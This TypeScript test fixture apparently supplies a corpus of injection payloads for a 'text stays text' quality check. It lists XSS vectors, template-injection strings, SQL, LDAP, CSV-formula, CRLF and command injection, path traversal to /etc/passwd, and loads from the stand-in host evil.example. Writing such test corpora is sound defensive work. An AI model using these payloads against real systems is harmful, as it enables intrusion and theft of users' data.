/**
 * Texts that would run code, load or redirect if treated as anything but text (quality R47). One corpus for all tests: an
 * executed text sets `window.__ran` or calls `FOREIGN_HOST`.
 */

const RUN = 'window.__ran=1';
/** A host of no one: any request to it is a finding. */
export const FOREIGN_HOST = 'evil.example';

/** Characters that end the context of a text. */
const ENDS = [
  '',
  '">',
  "'>",
  '`>',
  '</p>',
  '</textarea>',
  '</title>',
  '</style>',
  '</script>',
  '</noscript>',
  '-->',
  ']]>',
  '?>',
  '</template>',
];
/** Payloads that start a new context. */
const BEGINNINGS = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<svg/onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
];

const ELEMENTS = [
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script src=//${FOREIGN_HOST}/x.js></script>`,
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<img/src=\`x\`onerror=${RUN}>`,
  `<img src=//${FOREIGN_HOST}/x.png>`,
  `<img srcset="//${FOREIGN_HOST}/y.png 1x">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>x</text></a>`,
  `<svg><foreignObject><body onload=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="java&#9;script:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<body onload=${RUN}>`,
  `<body onpageshow=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<audio src=x onerror=${RUN}>`,
  `<video poster=//${FOREIGN_HOST}/p.png>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<textarea autofocus onfocus=${RUN}>`,
  `<x tabindex=1 autofocus onfocus=${RUN}>`,
  `<x contenteditable onblur=${RUN}>x`,
  `<x style=animation-name:x onanimationstart=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<object data="javascript:${RUN}">`,
  `<object data=//${FOREIGN_HOST}/x.swf>`,
  `<embed src="javascript:${RUN}">`,
  `<iframe src="javascript:parent.__ran=1">`,
  `<iframe src=//${FOREIGN_HOST}>`,
  `<frameset onload=${RUN}>`,
  `<form action="javascript:${RUN}"><button>x`,
  `<form action=//${FOREIGN_HOST}><input name=q>`,
  `<button formaction="javascript:${RUN}">x`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<base href=//${FOREIGN_HOST}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content=0;url=//${FOREIGN_HOST}>`,
  `<link rel=stylesheet href=//${FOREIGN_HOST}/x.css>`,
  `<link rel=import href=//${FOREIGN_HOST}/x>`,
  `<link rel=prefetch href=//${FOREIGN_HOST}/y>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<b onmouseover=${RUN}>x</b>`,
  `<dialog open onclose=${RUN}><form method=dialog>`,
  `<portal src=//${FOREIGN_HOST}>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--><script>${RUN}</script>-->`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

/** Payloads that would become another attribute. */
const ATTRIBUTES = [
  `" autofocus onfocus="${RUN}`,
  `' autofocus onfocus='${RUN}`,
  `" onmouseover=${RUN} x="`,
  `x onerror=${RUN}`,
  `" style="background:url(//${FOREIGN_HOST}/a)`,
  `" src="//${FOREIGN_HOST}/b" x="`,
  `"><script>${RUN}//`,
  `\` onclick=${RUN} \``,
  `"/onload=${RUN}/"`,
  `&quot; onfocus=&quot;${RUN}`,
];

/** Payloads that would become a URL. */
const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${RUN}//'>`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19yYW49MTwvc2NyaXB0Pg==',
  'data:image/svg+xml;base64,PHN2Zz4=',
  `vbscript:msgbox(1)`,
  'file:///etc/passwd',
  'blob:https://x/1',
  'about:blank',
  'view-source:https://x',
  `//${FOREIGN_HOST}`,
  `/\\${FOREIGN_HOST}`,
  `\\\\${FOREIGN_HOST}`,
  `/\t${FOREIGN_HOST}`,
  `http:${FOREIGN_HOST}`,
  `https:/${FOREIGN_HOST}`,
  `https://user@${FOREIGN_HOST}`,
  `https://a"onmouseover="${RUN}`,
  `https://a'onmouseover='${RUN}`,
  `https://a onclick=${RUN}`,
  'https://a><script>',
  'mailto:a@b?body=<script>',
  `mailto:javascript:${RUN}`,
  'tel:+7<script>',
  `tel:javascript:${RUN}`,
];

/** Payloads for lookups and expressions. */
const TEMPLATES = [
  `{{constructor.constructor("${RUN}")()}}`,
  `{{${RUN}}}`,
  '{{7*7}}',
  '{{= 7*7 }}',
  '${7*7}',
  `\${${RUN}}`,
  '<%= 7*7 %>',
  '#{7*7}',
  '@(7*7)',
  '*{7*7}',
  `[[\${${RUN}}]]`,
  '$t(refusals.detail.unknown)',
  '{order}{name}{{shop_name}}',
  '%s%n%x%p',
  '__proto__',
  'constructor.prototype.polluted',
];

/** Characters that look or sort differently from what they are. */
const SIGNS = [
  `\u2028<script>${RUN}</script>`,
  `\u2029<img src=x onerror=${RUN}>`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E`,
  `\u202E>tpircs/<1=nar__.wodniw>tpircs<`,
  `\u2066<svg onload=${RUN}>\u2069`,
  `\u200B<\u200Bscript>${RUN}</script>`,
  `\uFEFF<img src=x onerror=${RUN}>`,
  `<\u017Fcript>${RUN}</\u017Fcript>`,
  `<img src=x onerr\u043Er=${RUN}>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  '\u0337\u0336\u0335Z\u0351\u034Ba\u0363l\u036Dg\u0367o\u0302',
  '\u{1F469}\u200D\u{1F469}\u200D\u{1F467}\u200D\u{1F466}\u{E0067}\u{E007F}',
];

/** Payloads for markup, styles, queries and message formats. */
const OTHERS = [
  `[x](javascript:${RUN})`,
  `![x](x"onerror="${RUN})`,
  `![x](//${FOREIGN_HOST}/z.png)`,
  `<javascript:${RUN}>`,
  `[x]: javascript:${RUN}`,
  '`</code><script>`',
  `"};${RUN};//`,
  `'};${RUN};//`,
  `");${RUN};//`,
  `"}]}</script><script>${RUN}</script>`,
  `\\";${RUN};//`,
  '{"__proto__":{"polluted":1}}',
  `<style>@import "//${FOREIGN_HOST}/i.css"</style>`,
  `<style>*{background:url(//${FOREIGN_HOST}/c)}</style>`,
  `<p style="background:url(//${FOREIGN_HOST}/d)">x`,
  `<p style="width:expression(${RUN})">x`,
  `}*{background:url(//${FOREIGN_HOST}/e)}`,
  `;background-image:url(javascript:${RUN})`,
  `' or 1=1 --`,
  `'; drop table orders; --`,
  '*)(uid=*))(|(uid=*',
  '../../../../etc/passwd',
  `=cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  `x\r\nSet-Cookie: a=b`,
  `;echo ran`,
];

export const INJECTIONS: readonly string[] = [
  ...ENDS.flatMap((end) => BEGINNINGS.map((beginning) => end + beginning)),
  ...ELEMENTS,
  ...ATTRIBUTES,
  ...ADDRESSES,
  ...TEMPLATES,
  ...SIGNS,
  ...OTHERS,
];

/** The corpus joined into texts of at most `maxLength` characters, in order; longer payloads are left out. */
export function joinInjections(maxLength: number, separator = '\n'): readonly string[] {
  const texts: string[] = [];
  let text = '';
  for (const one of INJECTIONS.filter(({ length }) => length <= maxLength)) {
    const longer = text === '' ? one : text + separator + one;
    if (longer.length > maxLength) texts.push(text);
    text = longer.length > maxLength ? one : longer;
  }
  return text === '' ? texts : [...texts, text];
}
